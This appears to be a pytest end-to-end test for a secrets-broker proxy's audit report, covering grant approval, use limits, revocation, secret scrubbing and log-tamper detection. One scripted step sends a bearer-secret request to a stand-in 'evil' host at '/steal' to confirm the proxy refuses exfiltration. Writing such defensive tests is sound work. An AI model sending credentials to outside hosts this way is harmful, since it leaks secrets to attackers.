"""The access-review report over a scripted scenario driven through the real proxy.

Issue (one grant waits for approval), approve, use, a refused exfiltration attempt, an echoed
secret that is scrubbed, a grant used up, a revocation and a policy change that revokes a grant;
then `broker-proxy audit report` in every format must tell exactly that story, and a tampered
copy of the log must say so on the report's first line.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import jsonschema
import pytest

from broker_proxy.audit.record_schema import REPORT_SCHEMA_FILE, load_schema
from broker_proxy.devtools.local_pki import LocalPki
from broker_proxy.grants.actions import local_operator
from tests.conftest import API_HOST, EVIL_HOST, OTHER_HOST, Stack, Upstreams, start_stack
from tests.e2e_clients import CLIENTS
from tests.test_cli import run_cli
from tests.test_policy_reload import policy_text, reload_count, wait_for_reloads, write_policy

pytestmark = pytest.mark.e2e

API_AUTH = {"Authorization": "Bearer {{secret:api_key}}"}
OTHER_AUTH = {"Authorization": "Bearer other-PLACEHOLDER-0000"}


@dataclass
class Scenario:
    stack: Stack
    careful: str  # needs approval, max 3 uses, used up
    bot: str  # tries exfiltration, uses other_key, revoked by a person
    dropped: str  # revoked by the policy change
    user: str


def cli(stack: Stack, *args: str) -> str:
    done = run_cli(stack.home.root, *args, env=stack.env)
    assert done.returncode == 0, done.stderr
    return done.stdout


def issue(stack: Stack, agent: str, task: str, *secrets: str, max_uses: int | None = None
          ) -> dict:
    args = ["grant", "issue", "--policy", str(stack.policy_file), "--agent", agent,
            "--task", task, "--json"]
    for name in secrets:
        args += ["--secret", name]
    if max_uses is not None:
        args += ["--max-uses", str(max_uses)]
    return json.loads(cli(stack, *args))


@pytest.fixture(scope="module")
def scenario(tmp_path_factory: pytest.TempPathFactory, pki: LocalPki,
             upstreams: Upstreams) -> Iterator[Scenario]:
    stack = start_stack(tmp_path_factory.mktemp("review"), pki, upstreams)
    curl = CLIENTS["curl"]
    api = stack.upstreams.api
    try:
        careful = issue(stack, "careful-bot", "quarterly sync", "api_key", max_uses=3)
        assert careful["state"] == "pending"
        time.sleep(1.2)  # a person takes more than a second; under one is an anomaly
        cli(stack, "grant", "approve", careful["id"])
        token = careful["token"]
        # The echo upstream sends the Authorization header back: each answer is scrubbed.
        for method, path in (("GET", "/v1/items"), ("GET", "/v1/items"), ("POST", "/v1/items")):
            answer = curl(stack, token, method, stack.url(api, API_HOST, path), headers=API_AUTH)
            assert answer.status == 200
            assert stack.api_key not in answer.body.decode(errors="replace")
        used_up = curl(stack, token, "GET", stack.url(api, API_HOST, "/v1/more"),
                       headers=API_AUTH)
        assert (used_up.status, used_up.json()["error"]) == (403, "grant_used_up")

        bot = issue(stack, "bot", "triage", "api_key", "other_key")
        stolen = curl(stack, bot["token"], "GET",
                      stack.url(stack.upstreams.evil, EVIL_HOST, "/steal"), headers=API_AUTH)
        assert (stolen.status, stolen.json()["error"]) == (403, "destination_not_allowed")
        other = curl(stack, bot["token"], "GET",
                     stack.url(stack.upstreams.other, OTHER_HOST, "/x"), headers=OTHER_AUTH)
        assert other.status == 200
        cli(stack, "grant", "revoke", bot["id"])
        after = curl(stack, bot["token"], "GET",
                     stack.url(stack.upstreams.other, OTHER_HOST, "/x"), headers=OTHER_AUTH)
        assert (after.status, after.json()["error"]) == (403, "grant_revoked")

        dropped = issue(stack, "bot", "nightly", "other_key")
        oks = reload_count(stack, "ok")
        write_policy(stack, policy_text(stack, drop_other=True))
        wait_for_reloads(stack, "ok", at_least=1, since=oks)
        gone = curl(stack, dropped["token"], "GET",
                    stack.url(stack.upstreams.other, OTHER_HOST, "/y"), headers=OTHER_AUTH)
        assert gone.status == 403
        assert len(stack.upstreams.evil.requests) == 0
        yield Scenario(stack, careful["id"], bot["id"], dropped["id"], local_operator())
    finally:
        stack.proxy.stop()
    written = (stack.root / "proxy.log").read_text(errors="replace")
    written += stack.home.audit_log.read_text(errors="replace")
    assert stack.api_key not in written and stack.other_key not in written


def report(scenario: Scenario, fmt: str, *args: str) -> str:
    return cli(scenario.stack, "audit", "report", "--format", fmt, *args)


def grant_of(data: dict, grant_id: str) -> dict:
    [grant] = [g for g in data["grants"] if g["id"] == grant_id]
    return grant


def test_json_report_tells_the_scenario(scenario: Scenario) -> None:
    text = report(scenario, "json")
    assert text.splitlines()[0].startswith('{"integrity_ok": true, "headline": "INTEGRITY OK:')
    data = json.loads(text)
    jsonschema.Draft202012Validator(load_schema(REPORT_SCHEMA_FILE)).validate(data)
    api_target = f"{API_HOST}:{scenario.stack.upstreams.api.port}"
    evil_target = f"{EVIL_HOST}:{scenario.stack.upstreams.evil.port}"
    other_port = scenario.stack.upstreams.other.port

    careful = grant_of(data, scenario.careful)
    assert (careful["agent"], careful["task"], careful["secrets"]) == (
        "careful-bot", "quarterly sync", ["api_key"])
    assert careful["issued_by"] == scenario.user and careful["max_uses"] == 3
    assert careful["approval"]["requested"] is True
    assert careful["approval"]["decision"] == "approved"
    assert careful["approval"]["by"] == scenario.user
    assert careful["approval"]["waited_seconds"] >= 1.0
    assert (careful["uses"], careful["uses_left"]) == (3, 0)
    assert [(u["secret"], u["method"], u["host"], u["port"], u["path"], u["count"], u["statuses"])
            for u in careful["uses_by_target"]] == [
        ("api_key", "GET", API_HOST, scenario.stack.upstreams.api.port, "/v1/items", 2,
         {"200": 2}),
        ("api_key", "POST", API_HOST, scenario.stack.upstreams.api.port, "/v1/items", 1,
         {"200": 1})]
    assert careful["refusals"] == [{"reason": "grant_used_up", "count": 1,
                                    "destinations": [{"target": api_target, "count": 1}]}]
    assert careful["scrubbed"]["responses"] == 3
    assert careful["scrubbed"]["occurrences"] >= 3
    assert careful["revoked"] is None and careful["withheld"] == 0

    bot = grant_of(data, scenario.bot)
    assert bot["approval"] is None and bot["uses"] == 1 and bot["uses_left"] is None
    assert [(u["secret"], u["host"], u["port"], u["path"]) for u in bot["uses_by_target"]] == [
        ("other_key", OTHER_HOST, other_port, "/x")]
    assert sorted((r["reason"], r["count"]) for r in bot["refusals"]) == [
        ("destination_not_allowed", 1), ("grant_revoked", 1)]
    assert bot["revoked"]["by"] == scenario.user and bot["revoked"]["reason"] == "revoke"
    assert bot["scrubbed"]["responses"] == 1  # other_key echoed back too

    dropped = grant_of(data, scenario.dropped)
    assert dropped["uses"] == 0
    assert dropped["revoked"]["by"] == "policy-reload"
    assert dropped["revoked"]["reason"] == "outside_policy"
    assert sum(r["count"] for r in dropped["refusals"]) == 1

    kinds = {(a["kind"], a["grant"]) for a in data["anomalies"]}
    assert ("exfiltration_attempt", scenario.bot) in kinds
    assert ("grant_used_up", scenario.careful) in kinds
    assert ("secret_echoed", scenario.careful) in kinds
    assert not any(kind == "fast_approval" for kind, _ in kinds)
    [exfiltration] = [a for a in data["anomalies"] if a["kind"] == "exfiltration_attempt"]
    assert exfiltration["target"] == evil_target and exfiltration["count"] == 1
    # The record behind the finding is the refusal itself.
    log = scenario.stack.home.audit_log
    seq = int(exfiltration["records"][0].split("#")[1])
    record = json.loads(log.read_text().splitlines()[seq])
    assert (record["event"], record["reason"], record["host"]) == (
        "request", "destination_not_allowed", EVIL_HOST)

    assert any(change["event"] == "policy_reloaded" for change in data["policy_changes"])
    agents = {row["agent"]: row for row in data["summary"]["agents"]}
    assert (agents["careful-bot"]["grants"], agents["careful-bot"]["uses"],
            agents["careful-bot"]["refusals"], agents["careful-bot"]["scrubbed"]) == (1, 3, 1, 3)
    assert (agents["bot"]["grants"], agents["bot"]["uses"], agents["bot"]["revoked"]) == (2, 1, 2)
    secrets = {row["secret"]: row for row in data["summary"]["secrets"]}
    assert secrets["api_key"]["uses"] == 3
    assert secrets["api_key"]["destinations"] == [api_target]
    assert secrets["other_key"]["uses"] == 1
    assert sum(day["uses"] for day in data["daily"]) == 4


def test_filters_narrow_the_report(scenario: Scenario) -> None:
    only = json.loads(report(scenario, "json", "--agent", "careful-bot"))
    assert [g["id"] for g in only["grants"]] == [scenario.careful]
    by_secret = json.loads(report(scenario, "json", "--secret", "other_key"))
    assert {g["id"] for g in by_secret["grants"]} == {scenario.bot, scenario.dropped}
    by_grant = json.loads(report(scenario, "json", "--grant", scenario.bot))
    assert [g["id"] for g in by_grant["grants"]] == [scenario.bot]
    templated = json.loads(report(scenario, "json", "--grant", scenario.careful,
                                  "--policy", str(scenario.stack.policy_file)))
    assert [(u["method"], u["path"], u["count"], u["statuses"])
            for u in templated["grants"][0]["uses_by_target"]] == [
        ("GET", "/v1/**", 2, {"200": 2}), ("POST", "/v1/**", 1, {"200": 1})]
    later = json.loads(report(scenario, "json", "--since", "2999-01-01"))
    assert later["grants"] == [] and later["records"] == 0


def test_text_report_tells_the_scenario(scenario: Scenario) -> None:
    lines = report(scenario, "text").splitlines()
    assert lines[0].startswith("INTEGRITY OK: ")
    assert lines[1].startswith("re-verify: broker-proxy --home ")
    text = "\n".join(lines)
    api_port = scenario.stack.upstreams.api.port
    assert f"grant {scenario.careful}  agent=careful-bot  task=quarterly sync" in text
    assert f"approval: approved by {scenario.user}" in text
    assert "uses: 3 (left 0)" in text
    # uses are an aligned table: secret, count, first, last, statuses, method, destination
    uses = [line.split() for line in lines if line.startswith("    api_key ")]
    assert [(u[0], u[1], u[4:6], u[-2], u[-1]) for u in uses[:2]] == [
        ("api_key", "2", ["200", "x2"], "GET", f"https://{API_HOST}:{api_port}/v1/items"),
        ("api_key", "1", ["200", "x1"], "POST", f"https://{API_HOST}:{api_port}/v1/items")]
    assert f"refused grant_used_up x1: {API_HOST}:{api_port} x1" in text
    assert "scrubbed: 3 response(s)" in text
    evil = f"{EVIL_HOST}:{scenario.stack.upstreams.evil.port}"
    assert f"refused destination_not_allowed x1: {evil} x1" in text
    assert f"[exfiltration_attempt] grant {scenario.bot}: placeholder sent to {evil}" in text
    assert "by policy-reload (outside_policy)" in text


def test_csv_report_tells_the_scenario(scenario: Scenario) -> None:
    text = report(scenario, "csv")
    first, rest = text.split("\n", 1)
    assert first.startswith("integrity,ok,INTEGRITY OK: ")
    rows = list(csv.DictReader(io.StringIO(rest)))
    uses = [(r["method"], r["path"], r["count"]) for r in rows
            if r["section"] == "use" and r["grant"] == scenario.careful]
    assert uses == [("GET", "/v1/items", "2"), ("POST", "/v1/items", "1")]
    refusals = {(r["grant"], r["reason"], r["host"], r["count"]) for r in rows
                if r["section"] == "refusal"}
    assert (scenario.bot, "destination_not_allowed", EVIL_HOST, "1") in refusals
    assert (scenario.careful, "grant_used_up", API_HOST, "1") in refusals
    revoked = {r["grant"]: r["detail"] for r in rows if r["section"] == "revoked"}
    assert revoked[scenario.dropped] == "by=policy-reload"
    scrubbed = {r["grant"]: r["count"] for r in rows if r["section"] == "scrubbed"}
    assert scrubbed == {scenario.careful: "3", scenario.bot: "1"}


def test_html_report_tells_the_scenario(scenario: Scenario) -> None:
    html = report(scenario, "html")
    assert '<div class="banner ok" id="integrity">INTEGRITY OK: ' in html
    assert "<svg" in html and "Refusals per reason" in html
    for needle in (scenario.careful, "quarterly sync", "/v1/items", "destination_not_allowed",
                   "exfiltration_attempt", "policy-reload"):
        assert needle in html
    # Self-contained: nothing to fetch.
    assert "http://" not in html.replace('xmlns="http://www.w3.org/2000/svg"', "")
    assert "https://" not in html.replace(f"https://{API_HOST}", "").replace(
        f"https://{OTHER_HOST}", "")


@pytest.mark.parametrize("fmt", ["text", "json", "csv", "html"])
def test_tampered_log_says_so_on_the_first_line(scenario: Scenario, tmp_path: Path,
                                                fmt: str) -> None:
    copy = tmp_path / "audit.log"
    shutil.copy(scenario.stack.home.audit_log, copy)
    lines = copy.read_text().splitlines(keepends=True)
    index = next(i for i, line in enumerate(lines) if '"destination_not_allowed"' in line)
    lines[index] = lines[index].replace("destination_not_allowed", "allowed_after_all__x")
    copy.write_text("".join(lines))
    first = report(scenario, fmt, str(copy), "--key", str(scenario.stack.home.audit_key)
                   ).splitlines()[0]
    assert "INTEGRITY FAILED" in first
    assert f"seq {index}: mac does not verify" in first
